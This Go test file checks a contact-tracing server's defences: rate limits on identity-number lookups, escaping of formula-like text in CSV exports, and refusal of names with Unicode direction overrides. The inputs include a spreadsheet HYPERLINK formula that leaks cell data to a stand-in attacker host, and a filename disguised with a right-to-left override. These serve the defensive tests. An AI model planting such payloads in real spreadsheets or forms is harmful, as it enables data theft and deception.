package server_test

import (
	"encoding/csv"
	"strings"
	"testing"
	"time"
)

// A checkpoint key looks people up by identity number at a desk's pace; a
// stolen one cannot walk the register. Refused input costs nothing.
func TestIdentityLookupsAreRateLimited(t *testing.T) {
	t.Parallel()
	forEach(t, func(t *testing.T, e *env) {
		e.Resident("13900000601", "刘备查", rid("19700101", 601), "341881001")
		checkpoint := func(name string) string {
			return e.Want(e.Do("POST", "/api/v1/admin/checkpoints", e.Admin(), map[string]any{"name": name, "region": "341881001"}), 201, "").Str("api_key")
		}
		key, other := checkpoint("服务台"), checkpoint("另一服务台")
		lookup := func(key, number string) resp {
			return e.Do("POST", "/api/v1/verify/id", key, map[string]any{"id_type": "resident_id", "id_number": number})
		}
		for range 30 {
			e.Want(lookup(key, "123"), 400, "")
		}
		// 20 at once, then one every 3 seconds; nobody found is a lookup too.
		start := time.Now()
		done := 0
		for ; done < 60; done++ {
			number := rid("19700101", 601)
			if done%2 == 1 {
				number = rid("19700101", 700+done)
			}
			r := lookup(key, number)
			if r.Status == 429 {
				e.Want(r, 429, "rate_limited")
				break
			}
			if r.Status != 200 && r.ErrCode() != "id_not_registered" {
				t.Fatalf("lookup %d: %d %s", done, r.Status, r.Raw)
			}
		}
		if refilled := int(time.Since(start)/(3*time.Second)) + 1; done < 20 || done > 20+refilled {
			t.Fatalf("%d lookups before the limit in %v, want 20 and at most %d more", done, time.Since(start), refilled)
		}
		e.Want(lookup(other, rid("19700101", 601)), 200, "")
	})
}

// Names typed by someone reach operators' spreadsheets through the CSV
// exports; one that starts like a formula is exported as text.
func TestCSVExportsDoNotCarryFormulas(t *testing.T) {
	t.Parallel()
	forEach(t, func(t *testing.T, e *env) {
		admin := e.Admin()
		formula := `=HYPERLINK("http://evil.example/?"&A1,"点我")`
		_, venueTok := e.Venue(admin, formula, "restaurant", "341881001")
		caseTok, caseID := e.Resident("13900000611", "-陈病例", rid("19750101", 611), "341881001")
		compTok, _ := e.Resident("13900000612", "@林同行", rid("19760101", 612), "341881001")
		e.Want(e.Do("POST", "/api/v1/checkins", caseTok, map[string]any{"venue_token": venueTok}), 201, "")
		e.Want(e.Do("POST", "/api/v1/checkins", compTok, map[string]any{"venue_token": venueTok}), 201, "")
		run := e.Want(e.Do("POST", "/api/v1/admin/tracing", admin, map[string]any{"person_ids": []string{caseID}}), 202, "").Str("id")
		if done := e.waitRun(admin, run); done.Body["companions"] != 1.0 {
			t.Fatalf("run: %s", done.Raw)
		}
		_, body := e.GetAuth("/api/v1/admin/tracing/"+run+"/report.csv?lang=en", admin)
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(body), "\uFEFF"))).ReadAll()
		if err != nil || len(rows) != 2 {
			t.Fatalf("export: %v\n%s", err, body)
		}
		for i, col := range rows[0] {
			if v := rows[1][i]; v != "" && strings.ContainsRune("=+-@", rune(v[0])) {
				t.Errorf("column %s starts a formula: %q", col, v)
			}
		}
		if !strings.Contains(string(body), "'"+strings.ReplaceAll(formula, `"`, `""`)) {
			t.Fatalf("the venue's name is not kept as text:\n%s", body)
		}

		e.Want(e.Do("POST", "/api/v1/admin/sites", admin, map[string]any{"name": formula, "address": "+宁国市", "hours": "@全天",
			"lat": 30.6, "lng": -118.9, "region": "341881001"}), 201, "")
		_, body = e.Get("/api/v1/sites?format=csv")
		rows, err = csv.NewReader(strings.NewReader(string(body))).ReadAll()
		if err != nil || len(rows) != 2 || rows[1][1] != "'"+formula || rows[1][2] != "'+宁国市" || rows[1][4] != "'@全天" || rows[1][6] != "-118.9" {
			t.Fatalf("sites CSV: %v %q", err, rows)
		}
	})
}

// Query parameters that pass a parser but no range (NaN, a year that is
// 10000 once in Beijing time) are the caller's error, never an empty 200.
func TestOutOfRangeParametersAre400(t *testing.T) {
	t.Parallel()
	forEach(t, func(t *testing.T, e *env) {
		admin := e.Admin()
		venue, _ := e.Venue(admin, "边界饭店", "restaurant", "341881001")
		for _, tc := range []struct{ path, code string }{
			{"/api/v1/admin/coverage?ratio=NaN", "ratio_invalid"},
			{"/api/v1/admin/coverage?ratio=-Inf", "ratio_invalid"},
			{"/api/v1/admin/venues/" + venue + "/counts?to=9999-12-31T23:59:59Z", "to_invalid"},
			{"/api/v1/admin/venues/" + venue + "/counts?from=0001-01-01T00:00:00Z", "from_invalid"},
		} {
			e.Want(e.Do("GET", tc.path, admin, nil), 400, tc.code)
		}
		e.Want(e.Do("GET", "/api/v1/admin/venues/"+venue+"/counts?to=2030-01-01T00:00:00Z", admin, nil), 200, "")
	})
}

// A fact cannot have happened in the future: a case in 2030 or a contact in
// 9999 is refused and nothing is stored; an isolation may be ordered ahead.
func TestFutureFactsAreRefused(t *testing.T) {
	t.Parallel()
	forEach(t, func(t *testing.T, e *env) {
		admin := e.Admin()
		_, id := e.Resident("13900000841", "未来人", rid("19700101", 841), "341881001")
		facts := e.Count("facts")
		post := func(body map[string]any) resp {
			body["person_id"] = id
			return e.Do("POST", "/api/v1/admin/facts", admin, body)
		}
		e.Want(post(map[string]any{"kind": "case.confirmed", "at": "2030-01-01T00:00:00+08:00"}), 400, "fact_at_future")
		e.Want(post(map[string]any{"kind": "contact.close", "at": "9999-01-01T00:00:00Z"}), 400, "")
		e.Want(post(map[string]any{"kind": "contact.close", "at": time.Now().Add(time.Hour).Format(time.RFC3339)}), 400, "fact_at_future")
		e.Want(post(map[string]any{"kind": "isolation", "at": time.Now().Add(-time.Hour).Format(time.RFC3339),
			"until": "9999-01-01T00:00:00Z", "attrs": map[string]any{"mode": "home"}}), 400, "")
		if n := e.Count("facts"); n != facts {
			t.Fatalf("refused facts stored: %d before, %d after", facts, n)
		}
		e.Want(post(map[string]any{"kind": "isolation", "at": time.Now().Add(48 * time.Hour).Format(time.RFC3339),
			"until": time.Now().Add(20 * 24 * time.Hour).Format(time.RFC3339), "attrs": map[string]any{"mode": "home"}}), 201, "")
	})
}

// Names others will read cannot carry a direction override or control
// characters; logging out with an API key is refused rather than answered
// 204 while the key keeps working.
func TestNamesAndLogoutHold(t *testing.T) {
	t.Parallel()
	forEach(t, func(t *testing.T, e *env) {
		admin := e.Admin()
		tok := e.ResidentToken("13900000851")
		persons := e.Count("persons")
		for _, name := range []string{"张\u202e三", "李\u2066四\u2069", "王\u0085五", "赵\u200f六"} {
			e.Want(e.Do("POST", "/api/v1/me/register", tok, map[string]any{"name": name, "id_type": "resident_id",
				"id_number": rid("19700101", 851)}), 400, "name_invalid")
		}
		if n := e.Count("persons"); n != persons {
			t.Fatalf("refused names stored: %d persons before, %d after", persons, n)
		}
		e.Want(e.Do("POST", "/api/v1/admin/venues", admin, map[string]any{"name": "饭店\u202egnp.exe", "kind": "restaurant",
			"address": "宁国市", "region": "341881001"}), 400, "text_invalid")
		e.Want(e.Do("POST", "/api/v1/admin/checkpoints", admin, map[string]any{"name": "卡口\u202e", "region": "341881001"}), 400, "text_invalid")

		_, key := e.Checkpoint(admin, "登出测试卡口", "341881001")
		e.Want(e.Do("POST", "/api/v1/auth/logout", key, nil), 400, "logout_api_key")
		e.Want(e.Do("POST", "/api/v1/verify", key, map[string]any{"code": "JKM1:X"}), 200, "")
	})
}
